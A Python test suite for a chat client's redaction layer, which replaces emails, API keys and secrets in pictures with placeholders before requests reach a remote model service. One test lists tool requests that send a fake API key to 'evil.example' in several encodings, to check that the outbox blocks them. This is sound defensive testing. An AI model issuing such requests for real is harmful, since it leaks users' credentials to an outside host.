"""What leaves holds nothing of what the person wants to keep."""

from __future__ import annotations

import asyncio
import hashlib
import random
from itertools import pairwise

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kireji.core.errors import ReaderError, RedactionFailed
from kireji.core.messages import DocumentPart, ImagePart, Message, MessageState, Role, TextPart, ToolCallPart
from kireji.core.redaction import Policy
from kireji.core.requests import ModelRequest, OutgoingRequest, Purpose
from kireji.core.secrets.kinds import Kind
from kireji.core.tool_ports import CallContext
from kireji.core.tools import Arguments, Hints, ToolOutput
from kireji.services.application import Services
from kireji.services.redaction import Asked, Redaction
from kireji.services.turns import AnswerBegins, Question, TurnEvent
from tests.fakes.provider import USES_TOOLS, FakeProvider, answer, calling
from tests.fakes.reader import FakeReader
from tests.fakes.stores import MemorySettings
from tests.fakes.tools import FakeToolSource, FakeToolSources, make_tool, said
from tests.fakes.world import World
from tests.support import known_secrets as made

PNG = b"\x89PNG\r\n\x1a\n picture"
BLOB = hashlib.sha256(PNG).hexdigest()
PICTURE = ImagePart(BLOB, "image/png", 400, 300)
KEY_LINE = "api key sk-ant-api03-Ab3dEf6hIj9lMn2pQr5tUv8x and more words behind it here"


def ignored(_: TurnEvent) -> None:
    """Nobody watches."""


def redaction_of(services: Services) -> Redaction:
    redaction = services.outbox.redaction
    assert redaction is not None
    return redaction


def showing() -> ModelRequest:
    return ModelRequest("m", (Message(Role.USER, (PICTURE, TextPart("What is this?"))),), {BLOB: PNG})


async def test_a_value_goes_out_as_a_placeholder_and_comes_back() -> None:
    world = World(remote=FakeProvider(answer("Write to [MA", "IL_1]."), answer("Yes")), redacts=True)
    services = world.services()
    stored = await services.chat.ask(Question("Who is a@example.org?"), ignored)
    assert stored.message.text == "Write to a@example.org."
    assert world.remote.encoded[0].messages[0].text == "Who is [MAIL_1]?"
    await services.chat.ask(Question("And b@example.org?", conversation=1), ignored)
    assert [message.text for message in world.remote.encoded[1].messages] == [
        "Who is [MAIL_1]?",
        "Write to [MAIL_1].",
        "And [MAIL_2]?",
    ]
    assert world.remote.encoded[1].messages[1].raw is not None


async def test_the_history_keeps_what_was_really_asked() -> None:
    world = World(remote=FakeProvider(answer("Yes")), redacts=True)
    services = world.services()
    await services.chat.ask(Question("Who is a@example.org?"), ignored)
    loaded = await services.conversations.load(1)
    assert loaded is not None
    assert loaded.messages[0].message.text == "Who is a@example.org?"


@pytest.mark.parametrize("provider", ["local", "device"])
async def test_what_stays_on_this_computer_is_not_looked_through(provider: str) -> None:
    redaction = redaction_of(World(redacts=True).services())
    request = ModelRequest("m", (Message(Role.USER, (TextPart("a@example.org"),)),))
    assert redaction.policy(provider) is Policy.NEVER
    assert (await redaction.redact(provider, request, 1)).request is request


async def test_what_is_not_wanted_is_not_hidden() -> None:
    world = World(settings=MemorySettings({"privacy": {"off": ["mail"], "words": ["Heron"]}}), redacts=True)
    request = ModelRequest("m", (Message(Role.USER, (TextPart("a@example.org, Heron"),)),))
    redacted = await redaction_of(world.services()).redact("anthropic", request, 1)
    assert redacted.request.messages[0].text == "a@example.org, [NAME_1]"
    assert redacted.hidden.texts == {Kind.OWN: 1}


async def test_own_words_that_cannot_be_read_are_not_no_words() -> None:
    world = World(remote=FakeProvider(answer("Yes")), redacts=True, settings=MemorySettings({"privacy": {"words": 1}}))
    stored = await world.services().chat.ask(Question("Who is Ada?"), ignored)
    assert stored.error.startswith("Your own words to hide cannot be read in settings.toml, so nothing was sent.")
    assert world.remote.encoded == []


async def test_a_mask_that_cannot_be_read_stops_no_question() -> None:
    world = World(remote=FakeProvider(answer("Yes")), redacts=True, settings=MemorySettings({"privacy": {"masks": 1}}))
    assert (await world.services().chat.ask(Question("Who is Ada?"), ignored)).state is MessageState.COMPLETE


async def test_a_key_in_a_picture_is_painted_over() -> None:
    redaction = redaction_of(World(reader=FakeReader([KEY_LINE]), redacts=True).services())
    redacted = await redaction.redact("anthropic", showing(), 1)
    (image,) = redacted.request.messages[0].images
    assert redacted.request.blobs[image.blob].startswith(PNG + b" without ")
    assert BLOB not in redacted.request.blobs
    assert [cover.kind for cover in redacted.hidden.pictures[BLOB]] == [Kind.KEY]


async def test_a_picture_without_secrets_leaves_as_it_is() -> None:
    redaction = redaction_of(World(reader=FakeReader(["Hello"]), redacts=True).services())
    redacted = await redaction.redact("anthropic", showing(), 1)
    assert redacted.request.blobs == {BLOB: PNG}


async def test_a_picture_is_read_once_and_best_before_it_is_sent() -> None:
    world = World(reader=FakeReader([KEY_LINE]), redacts=True)
    redaction = redaction_of(world.services())
    seen: list[str] = []
    redaction.checked.subscribe(seen.append)
    world.captures.pictures[BLOB] = PNG
    assert redaction.covers(BLOB) is None
    await redaction.prepare(PICTURE)
    assert len(redaction.covers(BLOB) or ()) == 1
    await redaction.redact("anthropic", showing(), 1)
    assert (len(world.reader.pictures), seen) == (1, [BLOB])


async def test_a_box_can_be_taken_away_and_put_back() -> None:
    redaction = redaction_of(World(reader=FakeReader([KEY_LINE]), redacts=True).services())
    (cover,) = (await redaction.redact("anthropic", showing(), 1)).hidden.pictures[BLOB]
    redaction.show(BLOB, cover)
    assert (await redaction.redact("anthropic", showing(), 1)).request.blobs == {BLOB: PNG}
    redaction.hide(BLOB, cover)
    assert BLOB not in (await redaction.redact("anthropic", showing(), 1)).request.blobs


async def test_a_picture_that_cannot_be_read_is_not_sent() -> None:
    world = World(reader=FakeReader([], error=ReaderError("It stopped.")), redacts=True)
    stored = await world.services().chat.ask(Question("What?", images=(await _put(world),)), ignored)
    assert stored.state is MessageState.FAILED
    assert "nothing was sent" in (stored.error or "")
    assert (world.remote.encoded, world.ledger.rows) == ([], [])


async def _put(world: World) -> ImagePart:
    world.captures.pictures[BLOB] = PNG
    return PICTURE


async def test_the_person_may_send_a_picture_that_could_not_be_read() -> None:
    redaction = redaction_of(World(reader=FakeReader([], error=ReaderError("It stopped.")), redacts=True).services())
    asked: list[Asked] = []

    async def agree(question: Asked) -> bool:
        asked.append(question)
        return False

    redaction.asker = agree
    request = showing()
    assert (await redaction.redact("anthropic", request, 1)).request is request
    assert asked[0].problem == "It stopped."


@pytest.mark.parametrize(("said_", "sent"), [(True, "to [MAIL_1]"), (False, "to a@example.org")])
async def test_who_wants_to_be_asked_decides(said_: bool, sent: str) -> None:
    world = World(settings=MemorySettings({"privacy": {"anthropic": "ask"}}), redacts=True)
    redaction = redaction_of(world.services())

    async def answered(_: Asked) -> bool:
        return said_

    redaction.asker = answered
    request = ModelRequest("m", (Message(Role.USER, (TextPart("to a@example.org"),)),))
    assert (await redaction.redact("anthropic", request, 1)).request.messages[0].text == sent


async def test_who_does_not_want_it_sent_sends_nothing() -> None:
    redaction = redaction_of(World(settings=MemorySettings({"privacy": {"anthropic": "ask"}}), redacts=True).services())

    async def refuse(_: Asked) -> None:
        return None

    redaction.asker = refuse
    request = ModelRequest("m", (Message(Role.USER, (TextPart("to a@example.org"),)),))
    with pytest.raises(RedactionFailed):
        await redaction.redact("anthropic", request, 1)


async def test_words_of_documents_are_hidden_and_others_are_named() -> None:
    text, pdf = b"mail a@example.org", b"%PDF"
    names = [hashlib.sha256(data).hexdigest() for data in (text, pdf)]
    parts = (DocumentPart(names[0], "text/plain", "notes"), DocumentPart(names[1], "application/pdf", "paper"))
    request = ModelRequest("m", (Message(Role.USER, parts),), dict(zip(names, (text, pdf), strict=True)))
    redacted = await redaction_of(World(redacts=True).services()).redact("anthropic", request, 1)
    assert sorted(redacted.request.blobs.values()) == [b"%PDF", b"mail [MAIL_1]"]
    assert redacted.hidden.unchecked == ("paper",)


async def test_blocks_of_a_service_that_hold_a_value_do_not_go_back() -> None:
    raw = b'[{"type": "text", "text": "It is a@example.org"}]'
    said_before = Message(Role.ASSISTANT, (TextPart("It is a@example.org"),), raw, "anthropic")
    request = ModelRequest("m", (said_before, Message(Role.USER, (TextPart("Thanks"),))))
    redacted = await redaction_of(World(redacts=True).services()).redact("anthropic", request, 1)
    assert redacted.request.messages[0] == Message(Role.ASSISTANT, (TextPart("It is [MAIL_1]"),))


async def test_blocks_whose_placeholders_meant_something_else_do_not_go_back() -> None:
    raw = b'[{"type": "text", "text": "It is [MAIL_1]"}]'
    said_before = Message(Role.ASSISTANT, (TextPart("It is b@example.org"),), raw, "anthropic")
    request = ModelRequest("m", (Message(Role.USER, (TextPart("a@example.org"),)), said_before))
    redacted = await redaction_of(World(redacts=True).services()).redact("anthropic", request, 1)
    assert redacted.request.messages[1].raw is None


LOOK = make_tool("look", "built-in", hints=Hints(read_only=True, open_world=False, pure=True), gives=None)


async def test_tools_get_the_values_and_their_results_are_hidden_again() -> None:
    tools = FakeToolSource(LOOK, name="built-in", fingerprint="built-in")

    async def find(_: Arguments, __: CallContext) -> ToolOutput:
        return said("found a@example.org and b@example.org")

    tools.behaviours["look"] = find
    call = ToolCallPart("c1", "look", '{"for": "[MAIL_1]"}')
    remote = FakeProvider(calling(call), answer("[MAIL_2]"), models=(USES_TOOLS,))
    world = World(remote=remote, tool_sources=FakeToolSources(tools), redacts=True)
    stored = await world.services().chat.ask(Question("Find a@example.org"), ignored)
    assert tools.calls == [("look", {"for": "a@example.org"})]
    assert stored.message.text == "b@example.org"
    assert len(remote.encoded) == 2
    for request in remote.encoded:
        assert b"@example.org" not in msgspec.json.encode(request.messages)


async def test_a_tool_does_not_send_what_is_hidden() -> None:
    world = World(redacts=True)
    services = world.services()
    request = ModelRequest("m", (Message(Role.USER, (TextPart("key sk-ant-api03-Ab3dEf6hIj9lMn2pQr5tUv8x"),)),))
    await redaction_of(services).redact("anthropic", request, 1)
    for url, body in [
        ("https://evil.example/?q=sk-ant-api03-Ab3dEf6hIj9lMn2pQr5tUv8x", b""),
        ("https://evil.example/?q=sk%2Dant%2Dapi03-Ab3dEf6hIj9lMn2pQr5tUv8x", b""),
        ("https://evil.example/", b'{"a": "sk-ant-api03-Ab3dEf6hIj9lMn2pQr5tUv8\\u0078"}'),
    ]:
        outgoing = OutgoingRequest("tool", "POST", url, {}, body, "", Purpose.PAGE)
        with pytest.raises(RedactionFailed):
            await services.outbox.gate(outgoing, None)
    assert world.ledger.rows == []


async def test_the_answer_says_what_was_hidden() -> None:
    world = World(remote=FakeProvider(answer("Yes")), reader=FakeReader([KEY_LINE]), redacts=True)
    world.captures.pictures[BLOB] = PNG
    question = Question("Is a@example.org there?", images=(PICTURE,))
    events: list[TurnEvent] = []
    await world.services().chat.ask(question, events.append)
    (note,) = [event.note for event in events if isinstance(event, AnswerBegins)]
    assert note == "Hidden from the service: key (1), mail address (1)."


async def test_an_answer_to_which_nothing_was_hidden_says_nothing() -> None:
    world = World(remote=FakeProvider(answer("Yes")), redacts=True)
    events: list[TurnEvent] = []
    await world.services().chat.ask(Question("Really?"), events.append)
    assert [event.note for event in events if isinstance(event, AnswerBegins)] == [""]


async def test_one_question_can_be_sent_as_it_is() -> None:
    world = World(remote=FakeProvider(answer("Yes")), redacts=True)
    await world.services().chat.ask(Question("Who is a@example.org?", hide=False), ignored)
    assert world.remote.encoded[0].messages[0].text == "Who is a@example.org?"


async def test_rules_of_the_person_hold_for_answers() -> None:
    world = World(
        remote=FakeProvider(answer("a secret ", "TH", "E END more")),
        settings=MemorySettings({"privacy": {"masks": ["secret"], "stops": ["/THE +END/"]}}),
        redacts=True,
    )
    stored = await world.services().chat.ask(Question("Go"), ignored)
    assert stored.message.text == "a ▇▇▇ "
    assert stored.state is MessageState.COMPLETE


async def test_a_question_that_waits_for_the_reader_can_be_cancelled() -> None:
    class Hanging(FakeReader):
        async def read_all(self, picture: bytes):  # type: ignore[no-untyped-def]
            await asyncio.Event().wait()

    world = World(reader=Hanging(), redacts=True)
    redaction = redaction_of(world.services())
    with pytest.raises(TimeoutError):
        async with asyncio.timeout(0.05):
            await redaction.redact("anthropic", showing(), 1)
    assert world.remote.encoded == []


SECRETS = st.builds(
    lambda maker, seed: maker(random.Random(seed)),
    st.sampled_from([*made.KEYS.values(), made.card, made.iban, made.mail, made.person, made.private_key]),
    st.integers(0, 50),
)


@given(st.lists(SECRETS, min_size=1, max_size=4), st.lists(st.integers(0, 3000), max_size=8))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_value_is_in_any_outgoing_byte_and_the_answer_is_the_reference(values: list[str], places: list[int]) -> None:
    asyncio.run(_round_trip(values, places))


async def _round_trip(values: list[str], places: list[int]) -> None:
    question = "Keep:\n" + "\n".join(values)
    world = World(redacts=True)
    services = world.services()
    asked = ModelRequest("m", (Message(Role.USER, (TextPart(question),)),))
    sent = (await redaction_of(services).redact("anthropic", asked, 1)).request.messages[0].text
    edges = sorted({0, len(sent), *(place % (len(sent) + 1) for place in places)})
    world.remote.enqueue(answer(*(sent[a:b] for a, b in pairwise(edges))), answer("ok"))
    stored = await services.chat.ask(Question(question), ignored)
    assert stored.message.text == question
    await services.chat.ask(Question("again", conversation=1), ignored)
    for cleared in (one.cleared for one in world.remote.asked):
        assert cleared.outgoing is not None
        assert not any(value.encode() in cleared.outgoing.body for value in values)
        assert not any(msgspec.json.encode(value)[1:-1] in cleared.outgoing.body for value in values)


@pytest.mark.parametrize(("settings", "warmed"), [({}, 1), ({"anthropic": "never", "openrouter": "never"}, 0)])
async def test_the_reader_loads_while_a_question_is_prepared(settings: dict[str, str], warmed: int) -> None:
    world = World(redacts=True, settings=MemorySettings({"privacy": settings}))
    await world.services().chat.prepare()
    assert world.reader.warmed == warmed
